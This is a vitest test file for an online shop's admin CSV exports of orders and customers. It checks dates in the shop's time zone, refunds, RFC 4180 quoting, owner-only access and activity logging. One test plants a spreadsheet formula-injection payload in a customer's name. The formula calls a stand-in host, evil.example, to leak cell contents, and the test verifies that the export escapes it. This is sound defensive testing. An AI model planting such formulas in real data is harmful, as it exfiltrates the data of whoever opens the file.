// Exports (issue 28 #5): GET /admin/api/exports/orders.csv?from=&to= answers the orders placed in
// those days (the shop's time zone) as CSV, one row per order with its amounts in dollars, equal to
// the order rows behind them; GET /admin/api/exports/customers.csv one row per email that ordered.
// A formula in a name stays text; quotes, commas, newlines and non-ASCII survive a round trip. Owner
// only (403 to staff), and each download leaves an Activity record. Orders are placed through the
// real checkout at chosen instants (a test clock).
import { parse } from 'csv-parse/sync';
import { desc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Item } from '../../src/contract/catalog.js';
import { CUSTOMERS_CSV_COLUMNS, ORDERS_CSV_COLUMNS } from '../../src/contract/exports.js';
import { hexId } from '../../src/server/db/ids.js';
import { activity, admins, orders, sizes, subscriptions } from '../../src/server/db/schema.js';
import { type AdminTestApp, createAdminTestApp, TEST_ADMIN } from '../support/admin-session.js';
import { placeOrder, selectionOf } from '../support/place-order.js';
import { US_SHOPPER } from '../support/shoppers.js';
import { cookieFrom, storefrontItems } from '../support/test-app.js';

let now = new Date('2026-02-01T12:00:00Z');
let t: AdminTestApp;
let all: Item[];
let owner: { id: number; email: string };
const STAFF = { email: 'staff.exports@murashki.test', password: 'staff horse battery' };
let staffCookie: string;

beforeAll(async () => {
  t = await createAdminTestApp({ fixture: 'demo', clock: () => now });
  await t.db.update(sizes).set({ stock: 500, soldOut: false }).where(sql`${sizes.stock} is not null`);
  await t.app.ctx.services.readModel.invalidate();
  all = await storefrontItems(t.app);
  owner = (await t.db.select().from(admins).where(eq(admins.email, TEST_ADMIN.email)))[0]!;
  await t.app.ctx.services.adminAuth.setPassword(STAFF.email, STAFF.password);
  await t.db.update(admins).set({ role: 'staff' }).where(eq(admins.email, STAFF.email));
  staffCookie = cookieFrom(await t.app.inject({ method: 'POST', url: '/authenticate', payload: STAFF }), 'admin_sid')!;
  expect(staffCookie).toBeTruthy();
});
afterAll(() => t?.close());

const orderRow = async (id: number) => (await t.db.select().from(orders).where(eq(orders.id, id)))[0]!;

/** An order of these items placed at `at` by `shopper`; answers its number. */
async function orderAt(at: string, urls: string[], shopper: Partial<typeof US_SHOPPER> = {}) {
  now = new Date(at);
  return placeOrder(t.app, { pieces: urls.map((u) => selectionOf(all, u)), shopper: { ...US_SHOPPER, ...shopper } });
}

async function setTimeZone(timeZone: string) {
  const s = await t.app.ctx.services.settings.read();
  await t.app.ctx.services.settings.save(owner, { ...s, insights: { ...s.insights, timeZone } });
}

type Row = Record<(typeof ORDERS_CSV_COLUMNS | typeof CUSTOMERS_CSV_COLUMNS)[number], string>;
async function csv(
  url: string,
): Promise<{ rows: Row[]; header: string[]; res: Awaited<ReturnType<AdminTestApp['admin']>> }> {
  const res = await t.admin('GET', url);
  expect(res.statusCode, res.body).toBe(200);
  const records = parse(res.body, { bom: true }) as string[][];
  const [header, ...body] = records;
  return {
    res,
    header: header!,
    rows: body.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i]!])) as Row),
  };
}
const ordersCsv = (from: string, to: string) => csv(`/admin/api/exports/orders.csv?from=${from}&to=${to}`);

const dollars = (cents: number) => (cents / 100).toFixed(2);
const piecesOf = (o: { lines: { quantity: number }[] }) => o.lines.reduce((n, l) => n + l.quantity, 0);

describe('the orders CSV', () => {
  let a: number; // 2026-01-31 23:30 in New York (2026-02-01 04:30 UTC)
  let b: number; // 2026-02-01 00:30 in New York
  let c: number; // 2026-01-30 12:00 UTC

  beforeAll(async () => {
    await setTimeZone('UTC');
    a = await orderAt('2026-02-01T04:30:00Z', ['silk-balconette-bra', 'high-waist-silk-brief'], {
      email: 'night.owl@example.com',
      firstName: 'Nora',
      lastName: 'Owl',
    });
    b = await orderAt('2026-02-01T05:30:00Z', ['silk-balconette-bra'], { email: 'early@example.com' });
    c = await orderAt('2026-01-30T12:00:00Z', ['high-waist-silk-brief'], { email: 'NIGHT.OWL@example.com' });
  });

  it('answers text/csv as a download named with the dates, the header first, every amount in dollars', async () => {
    const { res, header, rows } = await ordersCsv('2026-02-01', '2026-02-01');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="orders-2026-02-01-to-2026-02-01.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.startsWith('\uFEFForder_id,date,email,name,pieces,subtotal,discount,shipping,tax,total,')).toBe(
      true,
    );
    expect(header).toEqual([...ORDERS_CSV_COLUMNS]);
    expect(rows.map((r) => Number(r.order_id))).toEqual([a, b]);
    for (const row of rows) {
      const o = await orderRow(Number(row.order_id));
      expect(row).toEqual({
        order_id: String(o.id),
        date: o.createdAt.toISOString().slice(0, 16).replace('T', ' '),
        email: o.email,
        name: `${o.shippingInfo.firstName} ${o.shippingInfo.lastName}`,
        pieces: String(piecesOf(o)),
        subtotal: dollars(o.subtotalCents),
        discount: dollars(o.discountCents),
        shipping: dollars(o.shippingCents),
        tax: dollars(o.taxCents),
        total: dollars(o.totalCents),
        refunded: '0.00',
        payment_method: `Card ${o.paymentMethodDetails!.detail}`,
        status: 'To ship',
        tracking: '',
      });
      expect(row.total).toMatch(/^\d+\.\d\d$/);
    }
    expect(piecesOf(await orderRow(a))).toBe(2);
  });

  it('counts days in the shop time zone: 23:30 in New York on 31 January is that day, 00:30 the next', async () => {
    await setTimeZone('America/New_York');
    try {
      expect((await ordersCsv('2026-01-31', '2026-01-31')).rows.map((r) => Number(r.order_id))).toEqual([a]);
      const feb = await ordersCsv('2026-02-01', '2026-02-01');
      expect(feb.rows.map((r) => Number(r.order_id))).toEqual([b]);
      expect(feb.rows[0]!.date).toBe('2026-02-01 00:30');
      expect((await ordersCsv('2026-01-30', '2026-02-01')).rows.map((r) => Number(r.order_id))).toEqual([c, a, b]);
    } finally {
      await setTimeZone('UTC');
    }
  });

  it('an empty range answers the header alone', async () => {
    const { rows, res } = await ordersCsv('2025-06-01', '2025-06-30');
    expect(rows).toEqual([]);
    expect(res.body).toBe(`\uFEFF${ORDERS_CSV_COLUMNS.join(',')}\n`);
  });

  it('refuses a range that ends before it starts, a day that does not exist and a missing day (400, in words)', async () => {
    const backwards = await t.admin('GET', '/admin/api/exports/orders.csv?from=2026-02-02&to=2026-02-01');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toContain('the last day cannot come before the first');
    const nonsense = await t.admin('GET', '/admin/api/exports/orders.csv?from=2026-02-30&to=2026-03-01');
    expect(nonsense.statusCode).toBe(400);
    expect(nonsense.json().message).toContain('a date that exists');
    expect((await t.admin('GET', '/admin/api/exports/orders.csv?from=2026-02-01')).statusCode).toBe(400);
    expect((await t.admin('GET', '/admin/api/exports/orders.csv?from=yesterday&to=today')).statusCode).toBe(400);
  });
});

describe('a refunded order', () => {
  let id: number;
  beforeAll(async () => {
    id = await orderAt('2026-01-20T10:00:00Z', ['silk-balconette-bra', 'high-waist-silk-brief'], {
      email: 'returner@example.com',
    });
    const shipped = await t.admin('POST', '/admin/api/assignCustomTracking', {
      orderId: id,
      trackingNumber: `TRK${id}`,
      trackingUrlLink: `https://track.example/${id}`,
    });
    expect(shipped.statusCode, shipped.body).toBe(200);
    const { lines } = await orderRow(id);
    const requested = await t.app.inject({
      method: 'POST',
      url: '/requestReturn',
      payload: {
        creditSelected: false,
        orderId: id,
        items: [{ index: 0, quantity: lines[0]!.quantity }],
        international: false,
      },
      remoteAddress: '10.9.0.1',
    });
    expect(requested.statusCode, requested.body).toBe(200);
  });

  it('shows the return as requested, then the refund it was paid, with its status and tracking', async () => {
    const before = (await ordersCsv('2026-01-20', '2026-01-20')).rows;
    expect(before.map((r) => [Number(r.order_id), r.refunded, r.status])).toEqual([[id, '0.00', 'Return requested']]);

    const refunded = await t.admin('POST', '/admin/api/refundReturn', {
      orderId: id,
      method: 'store_credit',
      restock: false,
    });
    expect(refunded.statusCode, refunded.body).toBe(200);
    const o = await orderRow(id);
    expect(o.returnRequest!.totalRefundCents).toBeGreaterThan(0);
    expect(o.returnRequest!.totalRefundCents).toBeLessThan(o.totalCents);
    const [row] = (await ordersCsv('2026-01-20', '2026-01-20')).rows;
    expect(row).toMatchObject({
      order_id: String(id),
      total: dollars(o.totalCents),
      refunded: dollars(o.returnRequest!.totalRefundCents),
      status: 'Refunded',
      tracking: `TRK${id}`,
    });
  });
});

describe('cells a spreadsheet would misread', () => {
  const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
  let id: number;
  beforeAll(async () => {
    id = await orderAt('2026-01-10T09:00:00Z', ['silk-balconette-bra'], {
      email: 'formula@example.com',
      firstName: FORMULA,
      lastName: 'Łukasz-Zoë 李',
    });
    // An email that starts with a sign, which no checkout form sends.
    await t.db.update(orders).set({ email: '-2+3@example.com' }).where(eq(orders.id, id));
  });

  it('a formula in a name, or an email that starts with a sign, stays text (a leading apostrophe)', async () => {
    const [row] = (await ordersCsv('2026-01-10', '2026-01-10')).rows;
    expect(row!.name).toBe(`'${FORMULA} Łukasz-Zoë 李`);
    expect(row!.email).toBe("'-2+3@example.com");
  });

  it('quotes, commas, newlines and non-ASCII letters come back as written', async () => {
    // A newline, a comma and a quote in a name, written to the order directly.
    await t.db
      .update(orders)
      .set({
        shippingInfo: sql`jsonb_set(jsonb_set(${orders.shippingInfo}, '{firstName}', '"Zoë «Ana» 李"'), '{lastName}', ${JSON.stringify('O"Brien, Jr.\nSecond line')}::jsonb)`,
      })
      .where(eq(orders.id, id));
    const { res, rows } = await ordersCsv('2026-01-10', '2026-01-10');
    expect(rows[0]!.name).toBe('Zoë «Ana» 李 O"Brien, Jr.\nSecond line');
    // The cell is quoted and its quote doubled, as RFC 4180 says.
    expect(res.body).toContain('"Zoë «Ana» 李 O""Brien, Jr.\nSecond line"');
  });
});

describe('the customers CSV', () => {
  it('one row per email in any case: orders, total spent net of refunds, first and last order day, subscribed', async () => {
    await t.db.insert(subscriptions).values([
      { id: hexId(), email: 'Night.Owl@Example.com', newsletter: true },
      { id: hexId(), email: 'early@example.com', newsletter: true, unsubscribedAt: new Date() },
    ]);
    const { res, header, rows } = await csv('/admin/api/exports/customers.csv');
    expect(header).toEqual([...CUSTOMERS_CSV_COLUMNS]);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="customers-\d{4}-\d{2}-\d{2}\.csv"$/);

    const all = await t.db.select().from(orders);
    const byEmail = new Map<string, typeof all>();
    for (const o of all) byEmail.set(o.email.toLowerCase(), [...(byEmail.get(o.email.toLowerCase()) ?? []), o]);
    expect(rows.map((r) => r.email.replace(/^'/, '').toLowerCase())).toEqual([...byEmail.keys()].sort());
    for (const row of rows) {
      const mine = byEmail.get(row.email.replace(/^'/, '').toLowerCase())!;
      const refunded = (o: (typeof all)[number]) =>
        o.returnRequest?.refundedAt ? o.returnRequest.totalRefundCents : 0;
      const days = mine.map((o) => o.createdAt.toISOString().slice(0, 10)).sort();
      expect(row).toMatchObject({
        orders: String(mine.length),
        total_spent: dollars(mine.reduce((n, o) => n + o.totalCents - refunded(o), 0)),
        first_order: days[0],
        last_order: days.at(-1),
      });
    }
    const owl = rows.find((r) => r.email.toLowerCase() === 'night.owl@example.com')!;
    expect(owl).toMatchObject({ orders: '2', first_order: '2026-01-30', last_order: '2026-02-01', subscribed: 'yes' });
    expect(rows.find((r) => r.email === 'early@example.com')!.subscribed).toBe('no');
    expect(rows.find((r) => r.email === 'returner@example.com')!.subscribed).toBe('no');
    const returner = all.find((o) => o.email === 'returner@example.com')!;
    expect(rows.find((r) => r.email === 'returner@example.com')!.total_spent).toBe(
      dollars(returner.totalCents - returner.returnRequest!.totalRefundCents),
    );
  });
});

describe('who may export', () => {
  it('answers 401 without a session and 403 to staff, for both CSVs; staff leave no Activity record', async () => {
    const before = await t.db.select().from(activity);
    for (const url of [
      '/admin/api/exports/orders.csv?from=2026-01-01&to=2026-02-01',
      '/admin/api/exports/customers.csv',
    ]) {
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
      const staff = await t.app.inject({ method: 'GET', url, headers: { cookie: staffCookie } });
      expect(staff.statusCode).toBe(403);
      expect(staff.json()).toMatchObject({ error: 'forbidden', message: 'Only the shop owner can do this' });
    }
    expect(await t.db.select().from(activity)).toHaveLength(before.length);
  });

  it("records each of the owner's downloads in Activity: who, which, the dates", async () => {
    await ordersCsv('2026-01-01', '2026-01-31');
    const [orderEntry] = await t.db.select().from(activity).orderBy(desc(activity.id)).limit(1);
    expect(orderEntry).toMatchObject({
      adminEmail: TEST_ADMIN.email,
      kind: 'orders.exported',
      summary: 'Exported the orders of 2026-01-01 to 2026-01-31 (CSV)',
      detail: { from: '2026-01-01', to: '2026-01-31', timeZone: 'UTC' },
    });
    await csv('/admin/api/exports/customers.csv');
    const [customerEntry] = await t.db.select().from(activity).orderBy(desc(activity.id)).limit(1);
    expect(customerEntry).toMatchObject({ kind: 'customers.exported', summary: 'Exported the customers (CSV)' });
    const list = await t.admin('GET', '/admin/api/activity?kind=orders.exported');
    expect(list.json().entries[0]).toMatchObject({ label: 'Orders exported', person: TEST_ADMIN.email });
  });
});
